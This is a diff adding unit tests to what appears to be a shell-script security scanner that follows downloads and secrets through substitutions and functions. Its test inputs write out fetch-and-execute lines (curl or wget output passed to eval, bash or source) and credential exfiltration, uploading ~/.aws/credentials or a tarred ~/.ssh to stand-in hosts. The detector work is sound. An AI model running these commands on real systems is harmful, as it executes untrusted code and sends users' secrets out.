@@ -125,3 +125,43 @@ def test_a_credential_dump_sent_from_inside_a_substitution_in_a_header():
 def test_a_cli_token_in_a_url_is_sent_but_in_its_own_authorization_header_is_used():
     assert _scan("T=$(gh auth token)\ncurl -s \"https://x.example.test/c?t=$T\"\n") == [("EX-02", "critical", 2)]
     assert _scan("T=$(gh auth token)\ncurl -s -H \"Authorization: Bearer $T\" https://api.github.com/user\n") == []
+
+
+@pytest.mark.parametrize("script, line", [
+    ("x=$(echo \"$(curl -s https://x.example.test/p)\")\necho ok\neval \"$x\"\n", 3),  # a substitution inside one
+    ("p=$(printf '%s' \"$(wget -qO- https://x.example.test/p)\" | base64 -d)\nbash -c \"$p\"\n", 2),
+    ("run() { :; }\ncode=\"$(cat <<< \"$(curl -fsSL https://x.example.test/c)\")\"\nsh -c \"$code\"\n", 3),
+])
+def test_a_download_inside_a_nested_substitution_is_followed(script, line):
+    assert [(f.rule, f.line) for f in flows("shell", script)] == [("SC-01", line)]
+
+
+# ---------------------------------------------------------------- functions, followed to their calls
+@pytest.mark.parametrize("script, expected", [
+    # a helper prints a download; its call is piped to a shell lines later
+    ("#!/bin/bash\nremote_steps() {\n  local src=\"https://cdn.example.test/steps.sh\"\n  curl -fsSL \"$src\"\n}\n"
+     "echo 'preparing'\nremote_steps | bash -s -- --quiet\n", [("SC-01", 7, 4)]),
+    # `function name` with the brace on the next line, its output evaluated through a substitution
+    ("function pull_plugin\n{\n  wget -qO- https://cdn.example.test/plugin\n}\n\neval \"$(pull_plugin)\"\n",
+     [("SC-01", 6, 3)]),
+    # a helper prints a variable holding the download; sourced through a process substitution
+    ("prep() { body=$(curl -s https://cdn.example.test/p); echo \"$body\"; }\nsource <(prep)\n", [("SC-01", 2, 1)]),
+    # a helper reads a credential; its output is sent by curl as form data
+    ("read_cfg() {\n  cat \"$HOME/.aws/credentials\"\n}\nurl=https://collect.example.test/c\n"
+     "curl -s -F \"cfg=$(read_cfg)\" \"$url\"\n", [("EX-02", 5, 2)]),
+    # a helper archives a credential folder to stdout; piped to an upload
+    ("pack() { tar czf - -C \"$HOME\" .ssh; }\npack | curl -s -T - https://drop.example.test/u\n", [("EX-02", 2, 1)]),
+])
+def test_a_function_that_prints_a_download_or_a_secret_is_followed_to_its_call(script, expected):
+    assert [(f.rule, f.line, f.source_line) for f in flows("shell", script)] == expected
+
+
+@pytest.mark.parametrize("script", [
+    "latest() { curl -s https://api.example.test/version; }\nv=$(latest)\necho \"newest: $v\"\n",  # printed only
+    "log() { echo \"$@\" >&2; }\nlog start\ncurl -fsSL https://x.example.test/i -o /tmp/i.tgz\nlog done\nbash build.sh\n",
+    "fetch() { curl -fsSL \"$1\" -o \"$2\"; }\nfetch https://x.example.test/a.tgz a.tgz\ntar xzf a.tgz\n"
+    "bash scripts/build.sh\n",  # the download goes to a file, which is unpacked, not run
+    "install_uv() { curl -LsSf https://astral.sh/uv/install.sh | sh; }\ninstall_uv | tee install.log\n",
+])
+def test_functions_that_do_not_print_a_download_into_a_runner_have_no_flow(script):
+    assert [f for f in flows("shell", script) if f.line > 1] == []
